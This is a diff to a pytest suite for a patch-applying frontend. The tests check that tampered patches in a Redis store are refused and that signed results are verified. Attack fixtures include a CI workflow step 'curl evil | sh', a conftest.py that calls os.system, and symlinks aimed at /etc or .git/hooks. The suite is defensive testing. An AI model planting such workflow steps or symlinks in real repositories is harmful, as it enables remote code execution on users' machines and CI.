@@ -11,18 +11,30 @@ from pathlib import Path
 import pytest
 
 from mcp_frontend.apply import APPLY_CLAIMED, NOTHING_TO_APPLY, PatchApplier, not_eligible
-from mcp_frontend.errors import ApplyFailed, JobNotFinished, NotAGitRepo, PatchUnavailable, RepoOutsideSandbox
-from mcp_frontend.snapshot import snapshot_worktree
+from mcp_frontend.errors import ApplyFailed, JobNotFinished, NotAGitRepo, PatchMismatch, PatchUnavailable, RepoOutsideSandbox
+from mcp_frontend.patch_check import link_leaves_repo
+from mcp_frontend.snapshot import snapshot_ref, snapshot_worktree
 from tasks.job_models import CheckSpec, CompactResult, JobRecord, JobSpec, JobStatus, RepoSource, ScopedPatch
 from tasks.packaging import binary_patch, commit_result
-from tasks.store import JobStore
+from tasks.repo_fetch import RESULT_REF_PREFIX
+from tasks.result_signature import ResultClaim, sign_result
+from tasks.settings import FarmSettings
+from tasks.store import JobStore, patch_sha256
 from tests.fixtures.git_repos import git
+from tests.fixtures.signing import make_signing_files
 
 BINARY = bytes(range(256)) * 4
 
 GREET = "def greet():\n    return 'hello'\n\n\n# helpers below\n\n\ndef other():\n    return 2\n"
 NOTES = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\n"
 FILES = {"README.md": "# sample\n", "src/app.py": GREET, "notes.txt": NOTES, "old_name.txt": "moved\n"}
+
+
+@dataclass(frozen=True)
+class Symlink:
+    """A change that makes the path a symlink to target."""
+
+    target: str
 
 
 @dataclass
@@ -41,7 +53,7 @@ def caller(tmp_path, make_repo, redis_server) -> Caller:  # noqa: F811
     sandbox.mkdir()
     repo = make_repo(FILES, name="caller", parent=sandbox)
     store = JobStore(redis_server.client(), f"apply-test-{uuid.uuid4().hex[:8]}:", 600, 100)
-    return Caller(sandbox, repo, store, PatchApplier(store, sandbox))
+    return Caller(sandbox, repo, store, PatchApplier(store, sandbox, FarmSettings()))
 
 
 def run_job(
@@ -51,15 +63,16 @@ def run_job(
     status: JobStatus = JobStatus.completed,
     verdicts: list[str] | None = None,
     apply: str = "never",
+    transport: str = "path",
     **spec_fields,
 ) -> str:
     """Snapshot the caller's tree, make `changes` in a clone as a worker would, store the patch.
 
-    A change is new content, None (delete) or `(old_name,)` (rename old_name to this path)."""
+    A change is new content, None (delete), `(old_name,)` (rename old_name to this path) or a Symlink."""
     job_id = uuid.uuid4().hex
     snapshot = snapshot_worktree(caller.repo, job_id)
     spec = JobSpec(
-        job_id=job_id, prompt="p", source=RepoSource(location=str(caller.repo), origin_host=socket.gethostname()),
+        job_id=job_id, prompt="p", source=RepoSource(transport=transport, location=str(caller.repo), origin_host=socket.gethostname()),
         snapshot_commit=snapshot.commit, timeout_ms=60000, created_at=time.time(), apply=apply, **spec_fields,
     )  # fmt: skip
     caller.store.create(spec)
@@ -82,7 +95,10 @@ def worker_commit(repo: Path, clone: Path, ref: str, job_id: str, changes) -> tu
     snapshot = git(clone, "rev-parse", "HEAD").strip()
     for rel, content in changes.items():
         path = clone / rel
-        if isinstance(content, tuple):
+        if isinstance(content, Symlink):
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.symlink_to(content.target)
+        elif isinstance(content, tuple):
             path.parent.mkdir(parents=True, exist_ok=True)
             (clone / content[0]).rename(path)
         elif content is None:
@@ -290,7 +306,7 @@ def test_on_success_applies_a_passing_job_once_across_frontends(caller, tmp_path
     assert (caller.repo / "notes.txt").read_text() == "job\n"
     (caller.repo / "notes.txt").write_text("edited after the apply\n")
 
-    other_frontend = PatchApplier(caller.store, caller.sandbox)
+    other_frontend = PatchApplier(caller.store, caller.sandbox, FarmSettings())
     assert other_frontend.on_success(record(caller, job_id)) == first  # the stored result, no second apply
     assert caller.applier.on_success(record(caller, job_id)) == first
     assert (caller.repo / "notes.txt").read_text() == "edited after the apply\n"
@@ -361,3 +377,207 @@ def test_eligibility_needs_every_verdict_passed():
     assert not eligible(["a: b: timed out"])
     assert not eligible([])  # a verdict went missing
     assert not eligible(["a: b: passed"], JobStatus.cancelled)
+
+
+# A writer of Redis swaps the stored patch after the job ended (and maybe makes the record agree with it):
+# apply refuses it with patch_mismatch before git writes anything.
+
+WORKFLOW = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps: [{run: 'curl evil | sh'}]\n"
+ATTACK = {".github/workflows/ci.yml": WORKFLOW, "tests/conftest.py": "import os\nos.system('id')\n", "etc": Symlink("/etc")}
+
+
+def swap_patch(caller: Caller, tmp_path: Path, job_id: str, changes: dict, agree: tuple[str, ...] = ()) -> bytes:
+    """Store a patch of the attacker's own under the job's key; for each of `agree` ("digest", "files"), also make
+    the job's record say what that patch does."""
+    files, _, patch = worker_commit(caller.repo, tmp_path / f"attacker-{uuid.uuid4().hex[:8]}", snapshot_ref(job_id), job_id, changes)
+    key = caller.store.keys(job_id).record
+    caller.store.redis.set(caller.store.keys(job_id).patch, patch)
+    if "digest" in agree:
+        caller.store.redis.hset(key, "patch_sha256", patch_sha256(patch))
+    if "files" in agree:
+        result = record(caller, job_id).result.model_copy(update={"changed_files": files})
+        caller.store.redis.hset(key, "result", result.model_dump_json())
+    return patch
+
+
+def untouched(caller: Caller) -> tuple:
+    """The caller's refs, index, files and status: what a refused apply must leave exactly as it was."""
+    return refs_and_index(caller.repo), tree_bytes(caller.repo), status(caller.repo)
+
+
+@pytest.mark.parametrize("mode", ["3way", "check"])
+def test_a_swapped_patch_is_refused_and_the_checkout_is_left_alone(caller, tmp_path, mode):
+    job_id = run_job(caller, tmp_path, {"src/ok.py": "OK = 1\n"})
+    swap_patch(caller, tmp_path, job_id, ATTACK)
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch) as refused:
+        caller.applier.apply(record(caller, job_id), mode=mode)
+
+    assert refused.value.code == "patch_mismatch" and "sha256" in refused.value.message and refused.value.hint
+    assert untouched(caller) == before
+    assert not (caller.repo / "etc").is_symlink() and not (caller.repo / ".github").exists()
+    assert record(caller, job_id).result.changed_files == ["src/ok.py"]  # what get shows; no longer what is stored
+
+
+def test_on_success_reports_a_swapped_patch_instead_of_applying_it(caller, tmp_path):
+    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, apply="on_success", **PASSING)
+    swap_patch(caller, tmp_path, job_id, ATTACK)
+    before = untouched(caller)
+
+    result = caller.applier.on_success(record(caller, job_id))
+
+    assert not result.applied and result.message.startswith("not applied automatically: patch_mismatch: ")
+    assert untouched(caller) == before
+
+
+def test_a_rewritten_digest_does_not_make_other_files_acceptable(caller, tmp_path):
+    job_id = run_job(caller, tmp_path, {"src/ok.py": "OK = 1\n"})
+    swap_patch(caller, tmp_path, job_id, {"src/ok.py": "OK = 1\n", "tests/conftest.py": "import os\n"}, agree=("digest",))
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch, match=r"other files than the job's record lists \(extra: tests/conftest.py; missing: none\)"):
+        caller.applier.apply(record(caller, job_id))
+    assert untouched(caller) == before
+
+
+def test_a_record_rewritten_to_match_must_still_keep_to_the_jobs_scope(caller, tmp_path):
+    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"}, **PASSING)  # scoped_patch: notes.txt
+    swap_patch(caller, tmp_path, job_id, {"notes.txt": "job\n", "src/app.py": "import os\n"}, agree=("digest", "files"))
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch, match=r"changes src/app.py outside scoped_patch.paths \(notes.txt\)"):
+        caller.applier.apply(record(caller, job_id))
+    assert untouched(caller) == before
+
+
+@pytest.mark.parametrize("target", ["/etc", "../../outside", "docs/../../x", ".git/hooks", "docs/../.git"])
+def test_a_symlink_leading_out_of_the_repo_is_refused_even_when_the_record_agrees(caller, tmp_path, target):
+    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
+    swap_patch(caller, tmp_path, job_id, {"notes.txt": "job\n", "etc": Symlink(target)}, agree=("digest", "files"))
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch, match="symlinks that lead out of the repo or into its .git: etc -> "):
+        caller.applier.apply(record(caller, job_id))
+    assert untouched(caller) == before and not (caller.repo / "etc").is_symlink()
+
+
+def test_a_symlink_inside_the_repo_applies(caller, tmp_path):
+    job_id = run_job(caller, tmp_path, {"docs/notes": Symlink("../notes.txt")})
+    assert caller.applier.apply(record(caller, job_id)).applied
+    assert os.readlink(caller.repo / "docs/notes") == "../notes.txt"
+
+
+def test_a_record_without_a_patch_digest_is_refused(caller, tmp_path):
+    job_id = run_job(caller, tmp_path, {"notes.txt": "job\n"})
+    caller.store.redis.hdel(caller.store.keys(job_id).record, "patch_sha256")
+    with pytest.raises(PatchMismatch, match="holds no patch digest"):
+        caller.applier.apply(record(caller, job_id))
+    assert (caller.repo / "notes.txt").read_text() == NOTES
+
+
+@pytest.mark.parametrize(
+    ("path", "target", "leaves"),
+    [
+        ("link", "/etc", True), ("link", "..", True), ("a/b/link", "../../..", True), ("a/link", "../../x", True),
+        ("link", ".git", True), ("a/link", "../.git/config", True), ("link", "./.git/hooks/pre-commit", True),
+        ("link", "src/app.py", False), ("a/b/link", "../../notes.txt", False), ("link", ".", False),
+        ("link", ".github/workflows", False), ("a/link", "../a/../b", False),
+    ],
+)  # fmt: skip
+def test_which_symlink_targets_leave_the_repo(path, target, leaves):
+    assert link_leaves_repo(path, target) is leaves
+
+
+# transport=remote: the worker pushed its result commit to FARM_GIT_REMOTE; apply compares it with the patch.
+
+def remote_job(caller: Caller, tmp_path: Path, changes: dict, push: bool = True) -> tuple[str, Path]:
+    """A finished remote job whose worker pushed its result to a bare remote (unless push is False)."""
+    remote = tmp_path / "remote.git"
+    if not remote.exists():
+        git(tmp_path, "init", "-q", "--bare", str(remote))
+    job_id = run_job(caller, tmp_path, changes, transport="remote")
+    if push:
+        commit = record(caller, job_id).result_commit
+        git(tmp_path / f"worker-{job_id}", "push", "-q", str(remote), f"{commit}:{RESULT_REF_PREFIX}{job_id}")
+    return job_id, remote
+
+
+def remote_applier(caller: Caller, remote: Path | None) -> PatchApplier:
+    return PatchApplier(caller.store, caller.sandbox, FarmSettings(FARM_GIT_REMOTE=str(remote)) if remote else FarmSettings())
+
+
+def test_a_remote_job_applies_when_its_pushed_result_commit_matches(caller, tmp_path):
+    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"})
+    assert remote_applier(caller, remote).apply(record(caller, job_id)).applied
+    assert (caller.repo / "notes.txt").read_text() == "job\n"
+
+
+def test_a_remote_job_whose_record_and_patch_were_both_rewritten_is_caught_by_its_result_commit(caller, tmp_path):
+    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"})
+    swap_patch(caller, tmp_path, job_id, {"notes.txt": "curl evil | sh\n"}, agree=("digest", "files"))
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch, match="does not make the tree of the result commit"):
+        remote_applier(caller, remote).apply(record(caller, job_id))
+    assert untouched(caller) == before
+
+
+@pytest.mark.parametrize("problem", ["not pushed", "other commit", "no FARM_GIT_REMOTE"])
+def test_a_remote_job_without_its_result_commit_on_the_remote_is_refused(caller, tmp_path, problem):
+    job_id, remote = remote_job(caller, tmp_path, {"notes.txt": "job\n"}, push=problem != "not pushed")
+    if problem == "other commit":
+        other, _ = remote_job(caller, tmp_path, {"README.md": "other\n"})
+        git(remote, "update-ref", f"{RESULT_REF_PREFIX}{job_id}", record(caller, other).result_commit)
+    before = untouched(caller)
+
+    with pytest.raises(PatchMismatch):
+        remote_applier(caller, None if problem == "no FARM_GIT_REMOTE" else remote).apply(record(caller, job_id))
+    assert untouched(caller) == before
+
+
+# FARM_SIGNING_*: the worker signs the result; the frontend verifies before it applies.
+
+def signed_job(caller: Caller, tmp_path: Path, worker: FarmSettings, changes: dict, **fields) -> str:
+    """A finished job whose record carries the worker's signature over its result, as tasks/pipeline.py writes it."""
+    job_id = run_job(caller, tmp_path, changes, **fields)
+    seen = record(caller, job_id)
+    claim = ResultClaim.of_job(seen.spec, seen.result_commit, seen.patch_sha256, seen.result.changed_files)
+    assert caller.store.set_fields(job_id, **sign_result(claim, worker))
+    return job_id
+
+
+@pytest.fixture
+def identities(tmp_path):
+    """Signing settings of a worker, and of a frontend trusting that worker (and of an impostor it does not trust)."""
+    worker = make_signing_files(tmp_path / "keys", "worker")
+    frontend = make_signing_files(tmp_path / "keys", "frontend", trusted=[worker.cert])
+    impostor = make_signing_files(tmp_path / "keys", "impostor")
+    return FarmSettings(**worker.env()), FarmSettings(**frontend.env()), FarmSettings(**impostor.env())
+
+
+def test_a_signed_result_applies_and_a_rewritten_one_does_not(caller, tmp_path, identities):
+    worker, frontend, _ = identities
+    applier = PatchApplier(caller.store, caller.sandbox, frontend)
+    good = signed_job(caller, tmp_path, worker, {"notes.txt": "job\n"})
+    assert applier.apply(record(caller, good)).applied
+
+    forged = signed_job(caller, tmp_path, worker, {"README.md": "job\n"})
+    swap_patch(caller, tmp_path, forged, {"README.md": "job\n", "src/evil.py": "x\n"}, agree=("digest", "files"))
+    before = untouched(caller)
+    with pytest.raises(PatchMismatch, match="signature does not verify"):
+        applier.apply(record(caller, forged))
+    assert untouched(caller) == before
+
+
+def test_an_unsigned_or_untrusted_result_is_refused_where_signing_is_on(caller, tmp_path, identities):
+    _, frontend, impostor = identities
+    applier = PatchApplier(caller.store, caller.sandbox, frontend)
+    unsigned = run_job(caller, tmp_path, {"notes.txt": "job\n"})
+    untrusted = signed_job(caller, tmp_path, impostor, {"README.md": "job\n"})
+
+    with pytest.raises(PatchMismatch, match="carries no worker signature"):
+        applier.apply(record(caller, unsigned))
+    with pytest.raises(PatchMismatch, match="Unknown certificate"):
+        applier.apply(record(caller, untrusted))
+    assert (caller.repo / "notes.txt").read_text() == NOTES and (caller.repo / "README.md").read_text() == "# sample\n"
